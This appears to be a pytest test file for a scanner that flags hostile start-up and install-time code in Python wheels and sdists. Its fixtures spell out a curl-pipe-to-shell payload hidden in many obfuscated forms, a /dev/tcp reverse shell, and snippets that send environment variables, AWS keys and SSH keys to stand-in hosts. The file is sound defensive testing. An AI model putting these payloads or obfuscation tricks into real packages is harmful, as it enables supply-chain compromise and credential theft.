"""What the scanner sees in code, by what the code would do; and what it leaves alone."""

import base64
import codecs
import io
import tarfile
import time
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from affineur.model.scans import Level, Moment, Trait
from affineur.standards.startup_code import scan
from affineur.standards.startup_code.reader import read_module
from affineur.standards.startup_code.values import Budget
from tests.support.distributions import sdist_bytes, sdist_name, wheel_bytes, wheel_name

PAYLOAD = "import os\nos.system('curl http://203.0.113.7/x | sh')"
B64 = base64.b64encode(PAYLOAD.encode()).decode()
ZIPPED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


def read(code, moment=Moment.INSTALL):
    report, _, problem = read_module(code.encode(), "setup.py", moment, Budget(400_000))
    assert problem == ""
    return report.findings()


def heaviest(code, moment=Moment.INSTALL):
    return max((finding.level for finding in read(code, moment)), default=Level.NOTE)


HIDDEN = {
    "plainly": f"import base64\nexec(base64.b64decode('{B64}'))",
    "by other names": f"from base64 import b64decode as d\nrun = exec\nrun(compile(d('{B64}'), 'x', 'exec'))",
    "in pieces": f"import base64\na='{B64[:20]}'\nb='{B64[20:]}'\nexec(base64.b64decode(a + b).decode())",
    "by names made of pieces": f"g = getattr(__import__('buil' + 'tins'), 'ex' + 'ec')\ng(__import__('base64').b64decode('{B64}'))",
    "through the builtins' dictionary": f"__builtins__.__dict__['ev' + 'al']("
    f"__import__('zlib').decompress(__import__('base64').b64decode('{ZIPPED}')))",
    "through globals": f"import base64\nx = exec\nglobals()['x'](base64.b64decode('{B64}'))",
    "by a lambda": "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nexec((_)(b'abc'))",
    "by a function": f"import base64\ndef d(text):\n    return base64.b64decode(text)\nclass A:\n    def run(self):\n        exec(d('{B64}'))",
    "in characters": f"exec(''.join(chr(c) for c in {list(PAYLOAD.encode())}))",
    "in characters by map": f"exec(''.join(map(chr, {list(PAYLOAD.encode())})))",
    "by xor in a loop": f"s = ''\nfor c in {[c ^ 7 for c in PAYLOAD.encode()]}:\n    s += chr(c ^ 7)\nexec(s)",
    "in hex": f"exec(bytes.fromhex('{PAYLOAD.encode().hex()}'))",
    "by rot13": f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))",
    "backwards": f"exec({PAYLOAD[::-1]!r}[::-1])",
    "in layers": f"import base64\nexec('import base64; exec(base64.b64decode(\"{B64}\"))')",
    "as marshalled code": "import marshal\nexec(marshal.loads(open('x.bin', 'rb').read()))",
    "encrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
    "as a pickle": "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
    "for another Python": "import subprocess, sys\n"
    f"subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{B64}'))\"])",
    "as a command": f"import os, base64\nos.system(base64.b64decode('{B64}').decode())",
    "one way of a branch": f"import base64\nx = base64.b64decode('{B64}')\nif 1 > 2:\n    x = 'pass'\nexec(x)",
    "out of a literal": f"import base64\n[exec][0](base64.b64decode('{B64}'))",
    "by a look-up": f"import base64, builtins\nbuiltins.__dict__.get('exec')(base64.b64decode('{B64}'))",
    "given to something unknown": f"import base64, helper\nrunners = helper.all()\nfor run in runners:\n    run(base64.b64decode('{B64}'))",
    "in a command line": "import os\nos.system('python -c \"exec(__import__(\\'base64\\').b64decode(\\'aW1w\\'))\"')",
    "in old Python": f"print 'installing'\nexec(__import__('base64').b64decode('{B64}'))",
}


@pytest.mark.parametrize("code", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("moment", [Moment.INSTALL, Moment.START])
def test_hidden_code_is_held(code, moment):
    if "class A" in code and moment is not Moment.INSTALL:
        code += "\nA().run()"
    found = [finding for finding in read(code, moment) if finding.level is Level.HOLD]
    assert Trait.HIDDEN_CODE in {finding.trait for finding in found}
    assert all(finding.line and finding.text for finding in found)


GRAVE = {
    "runs what it fetches": "from urllib.request import urlopen as u\nexec(u('https://x.example.org/a').read())",
    "in a thread": "import threading, requests\ndef f():\n    exec(requests.get('https://x.example.org').text)\nthreading.Thread(target=f).start()",
    "starts what it fetches": "import os, urllib.request\np = os.path.join('/tmp', 'x.exe')\n"
    "urllib.request.urlretrieve('https://x.example.org/x', p)\nos.startfile(p)",
    "starts what it writes": "import requests, subprocess\n"
    "with open('/tmp/x', 'wb') as f:\n    f.write(requests.get('https://x.example.org').content)\nsubprocess.run(['/tmp/x'])",
    "writes a program that does": (
        "from tempfile import NamedTemporaryFile as f\nfrom sys import executable as e\nfrom os import system as s\n"
        "t = f(delete=False)\nt.write(b\"\"\"from urllib.request import urlopen as u;exec(u('https://x.example.org').read())\"\"\")\n"
        "t.close()\ns(f'start {e} {t.name}')"
    ),
    "fetches and starts by a command": "import os\nos.system('curl -o %TEMP%/a.exe https://x.example.org/a && %TEMP%/a.exe')",
    "pipes into a shell": "import subprocess\nsubprocess.run('curl -s https://x.example.org/i.sh | bash', shell=True)",
    "hidden powershell": "import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', 'AAAA'])",
    "a shell to elsewhere": "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')",
    "sends who it is": "import requests, socket, getpass\n"
    "requests.post('https://x.example.org', json={'h': socket.gethostname(), 'u': getpass.getuser()})",
    "asks for a name made of it": "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.org')",
    "sends the environment": "import os, json, http.client\n"
    "c = http.client.HTTPSConnection('x.example.org')\nc.request('POST', '/', json.dumps(dict(os.environ)))",
    "sends a token": "import os\nfrom urllib.request import urlopen\nurlopen('https://x.example.org/?' + os.environ['AWS_SECRET_ACCESS_KEY'])",
    "sends a key file": "import os, requests\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example.org', data=d)",
    "over a socket": "import socket, os\ns = socket.socket()\ns.connect(('x.example.org', 80))\ns.send(os.getlogin().encode())",
    "to a drop": "import requests\nrequests.get('https://discord.com/api/webhooks/1/2')",
    "to a bare address": "import urllib.request\nurllib.request.urlopen('http://203.0.113.7/a')",
    "out of sight": "x = 1;" + " " * 200 + "import os",
}  # fmt: skip


@pytest.mark.parametrize("code", GRAVE.values(), ids=GRAVE)
def test_clear_cases_are_held(code):
    assert heaviest(code) is Level.HOLD


ORDINARY = {
    "a version out of a file": "about = {}\nwith open('v.py') as f:\n    exec(f.read(), about)",
    "a version out of a compiled file": "exec(compile(open('v.py').read(), 'v.py', 'exec'))",
    "a version through a function": "from pathlib import Path\ndef read(p):\n    return Path(p).read_text()\nexec(read('v.py'))",
    "git": "import subprocess\nv = subprocess.check_output(['git', 'describe']).decode().strip()",
    "a compiler": "import subprocess\nsubprocess.check_call('cmake --build .', shell=True)",
    "a command of unknown content": "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd)",
    "the environment for a child": "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, X='1'))",
    "a flag of the environment": "import os\nif os.environ.get('BUILD_EXT') == '1':\n    pass",
    "decoding without running": "import base64\nlogo = base64.b64decode('aGVsbG8=')",
    "an expression": "eval('1 + 1')",
    "a constant program": "exec('x = 1')",
    "the machine's kind": "import platform\nif platform.machine() == 'x86_64':\n    pass",
    "long tables": "a = {\n" + "".join(f"    'key{n}':{' ' * 60}{n},\n" for n in range(50)) + "}",
    "comments far right": "x = 1" + " " * 150 + "# noqa",
}


@pytest.mark.parametrize("code", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_builds_say_nothing_worth_a_look(code):
    assert [finding for finding in read(code) if finding.level > Level.NOTE] == []


def test_what_an_import_only_defines_does_not_run():
    code = "import requests\ndef fetch(u):\n    return requests.get(u)\nclass C:\n    def m(self):\n        exec(requests.get('x').text)\n"
    assert read(code, Moment.IMPORT) == []
    assert heaviest(code + "if __name__ == '__main__':\n    C().m()\n", Moment.IMPORT) is Level.NOTE
    assert heaviest(code + "fetch('https://x.example.org')\n", Moment.IMPORT) is Level.WARN


@pytest.mark.parametrize(
    ("code", "trait"),
    [
        ("import requests\nrequests.get('https://x.example.org')", Trait.NETWORK),
        ("import subprocess\nsubprocess.Popen(['notepad'])", Trait.PROCESS),
        ("open('/home/ada/.aws/credentials')", Trait.CREDENTIALS),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", Trait.PERSISTENCE),
    ],
)
def test_what_may_have_its_reasons_is_a_warning(code, trait):
    assert [(f.trait, f.level) for f in read(code, Moment.IMPORT)] == [(trait, Level.WARN)]


def test_decoded_code_is_a_warning_whatever_becomes_of_it():
    found = read(f"import base64\nx = base64.b64decode('{B64}')\n", Moment.IMPORT)
    assert [(f.trait, f.level, f.line) for f in found] == [(Trait.HIDDEN_CODE, Level.WARN, 2)]


def test_decoded_code_is_shown_beside_the_line():
    found = read(HIDDEN["plainly"])
    assert any("→ import os os.system" in finding.text for finding in found)
    assert {finding.line for finding in found} == {2}


def scanned(tmp_path, filename, body, **options):
    path = tmp_path / filename
    path.write_bytes(body)
    return scan(path, filename, **options)


def wheel(tmp_path, files):
    return scanned(tmp_path, wheel_name("acme", "1.0"), wheel_bytes("acme", "1.0", files=files))


def sdist(tmp_path, files):
    return scanned(tmp_path, sdist_name("acme", "1.0"), sdist_bytes("acme", "1.0", files=files))


EVIL = HIDDEN["plainly"].encode()
CALLED = b"import base64\ndef go():\n    exec(base64.b64decode('" + B64.encode() + b"'))\n"


@pytest.mark.parametrize(
    "files",
    [
        {"acme/__init__.py": EVIL},
        {"acme.py": EVIL},
        {"acme_init.pth": b"import os;exec(__import__('base64').b64decode('" + B64.encode() + b"'))\n"},
        {"acme-1.0.data/purelib/x.pth": b"import os;exec(__import__('base64').b64decode('" + B64.encode() + b"'))\n"},
        {"x.pth": b"import acme_boot\n", "acme_boot.py": EVIL},
        {"x.start": b"acme.boot:go\n", "acme/boot.py": EVIL},
        {"sitecustomize.py": EVIL},
        {"acme/__init__.py": b"from . import _run\n", "acme/_run.py": EVIL},
        {"acme/__init__.py": b"from acme.inner import go\n", "acme/inner/__init__.py": b"from .deep import go", "acme/inner/deep.py": EVIL},
    ],
    ids=["package", "module", "pth", "pth in data", "pth by import", "start", "sitecustomize", "imported", "imported twice"],
)  # fmt: skip
def test_wheels_are_held_for_what_runs(tmp_path, files):
    found = wheel(tmp_path, files)
    assert (found.level, found.problem) == (Level.HOLD, "")


@pytest.mark.parametrize(
    "files",
    [
        {"setup.py": EVIL},
        {"setup.py": b"from setuptools import setup\nfrom helper import go\n", "helper.py": EVIL},
        {"backend.py": b"import base64\ndef build_wheel(*a):\n    exec(base64.b64decode('" + B64.encode() + b"'))\n"},
        {"pyproject.toml": b"[tool.hatch.build.hooks.custom]\npath = 'hooks/b.py'\n", "hooks/b.py": CALLED},
        {"acme/__init__.py": EVIL},
        {"src/acme/__init__.py": EVIL},
    ],
    ids=["setup.py", "imported by setup.py", "backend", "hatch hook", "package", "package below src"],
)
def test_sdists_are_held_for_what_runs(tmp_path, files):
    found = sdist(tmp_path, files)
    assert (found.level, found.problem) == (Level.HOLD, "")


def test_what_does_not_run_by_itself_is_left_to_a_full_inspection(tmp_path):
    found = wheel(
        tmp_path, {"acme/cli.py": EVIL, "acme/data/x.pth": b"import os;exec('x')", "acme-1.0.data/scripts/run.py": EVIL}
    )
    assert (found.level, found.problem) == (Level.NOTE, "")


def test_a_start_up_file_that_runs_code_is_a_warning_and_paths_are_not(tmp_path):
    assert wheel(tmp_path, {"x.pth": b"../lib\n# import os\n"}).findings == ()
    found = wheel(tmp_path, {"x.pth": b"../lib\nimport acme\n"})
    assert [(f.trait, f.level, f.place) for f in found.findings] == [(Trait.START_FILE, Level.WARN, "x.pth:2")]
    assert wheel(tmp_path, {"x.start": b"acme:main\n"}).level is Level.WARN


def test_well_known_start_up_lines_are_not_news(tmp_path):
    namespace = (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
        "*('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
        "m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder."
        "find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
    )
    distutils = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    assert (
        wheel(tmp_path, {"zope-nspkg.pth": namespace.encode(), "distutils-precedence.pth": distutils.encode()}).findings
        == ()
    )
    assert wheel(tmp_path, {"x.pth": distutils.strip().encode() + b" import evil\n"}).level is Level.WARN


def test_compiled_code_without_its_source_is_a_warning(tmp_path):
    found = wheel(tmp_path, {"acme/core.pyc": b"\0", "acme/__init__.pyc": b"\0"})
    assert [(f.trait, f.level, f.member) for f in found.findings] == [(Trait.BYTECODE, Level.WARN, "acme/core.pyc")]


@pytest.mark.parametrize(
    "code",
    [
        b"x = 1\n" * 500_000,
        b"(" * 3000 + b")" * 3000,
        b"x = " + b"-" * 5000 + b"1",
        b"x = " + b"+".join([b"1"] * 20_000),
        b"a = 'x' * 10**9\nb = a * 1000\nexec(b)",
        b"def f(n):\n    return f(n - 1) + f(n - 2)\nf(99)\n",
        (
            b"x = [[[a for a in range(9999)] for b in range(9999)] for c in range(9999)]\n"
            b"for q in range(5000):\n    for r in range(5000):\n        exec(x)"
        ),
    ],
    ids=["long", "parentheses", "signs", "sum", "large text", "recursion", "loops"],
)
def test_code_made_to_exhaust_the_reader_is_bounded_and_said(tmp_path, code):
    begun = time.monotonic()
    found = sdist(tmp_path, {"setup.py": code})
    assert time.monotonic() - begun < 20
    assert found.problem == "" or "setup.py" in found.problem


def test_what_could_not_be_read_is_not_fully_scanned(tmp_path):
    assert "nested too deeply" in sdist(tmp_path, {"setup.py": b"x = " + b"+".join([b"1"] * 20_000)}).problem
    assert "more code than is read" in sdist(tmp_path, {"setup.py": b"x=1;" * 250_000}).problem
    assert "setup.py: it is too large" in sdist(tmp_path, {"setup.py": b"#" * 3 * 2**20}).problem
    assert (
        "time for scanning"
        in scanned(tmp_path, wheel_name("acme", "1.0"), wheel_bytes("acme", "1.0"), seconds=-1.0).problem
    )


def test_damaged_archives_are_not_fully_scanned(tmp_path):
    whole = sdist_bytes("acme", "1.0", files={f"f{n}.py": bytes(500) for n in range(50)})
    assert scanned(tmp_path, "acme-1.0.tar.gz", whole[: len(whole) // 2]).problem
    assert scanned(tmp_path, "acme-1.0-py3-none-any.whl", b"PK\x03\x04 no").problem
    assert scanned(tmp_path, "acme-1.0.tar.gz", b"no tar at all").problem


def test_a_setup_py_that_is_a_link_is_not_fully_scanned(tmp_path):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as archive:
        link = tarfile.TarInfo("acme-1.0/setup.py")
        link.type, link.linkname = tarfile.SYMTYPE, "evil.txt"
        archive.addfile(link)
    assert "setup.py" in scanned(tmp_path, "acme-1.0.tar.gz", raw.getvalue()).problem


@pytest.mark.parametrize(
    ("mode", "suffix"), [("w:gz", "tar.gz"), ("w:bz2", "tar.bz2"), ("w:xz", "tar.xz"), ("w", "tar")]
)
def test_every_packing_of_sdists(tmp_path, mode, suffix):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode=mode) as archive:
        member = tarfile.TarInfo("./acme-1.0/setup.py")
        member.size = len(EVIL)
        archive.addfile(member, io.BytesIO(EVIL))
    assert scanned(tmp_path, f"acme-1.0.{suffix}", raw.getvalue()).level is Level.HOLD


def test_zipped_sdists_and_eggs(tmp_path):
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr("acme-1.0/setup.py", EVIL)
    assert scanned(tmp_path, "acme-1.0.zip", raw.getvalue()).level is Level.HOLD


def test_text_of_findings_cannot_move_a_cursor(tmp_path):
    code = "import os\nos.system('curl \x1b[2Jhttps://x.example.org | sh')  # \u202e".encode()
    (finding, *_) = sdist(tmp_path, {"setup.py": code}).findings
    assert finding.text.isprintable()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.text(alphabet="exc()[]{}'\"=+*%.:,\n x01lambdfori", max_size=200)
    | st.binary(max_size=200).map(lambda b: b.decode("latin-1"))
)
def test_any_source_is_read_or_said_to_be_unreadable(text):
    report, _, problem = read_module(text.encode(), "setup.py", Moment.INSTALL, Budget(50_000))
    assert all(finding.text.isprintable() and finding.sentence for finding in report.findings())
    assert isinstance(problem, str)


@given(st.permutations(["import base64", f"x = '{B64}'", "d = base64.b64decode"]), st.booleans())
def test_the_order_of_the_parts_does_not_matter(parts, spread):
    ordered = sorted(parts, key=lambda part: part.startswith("d ="))
    code = "\n".join([*ordered, "if spread:\n    y = d(x)\nelse:\n    y = d(x)" if spread else "y = d(x)", "exec(y)"])
    assert heaviest(code) is Level.HOLD
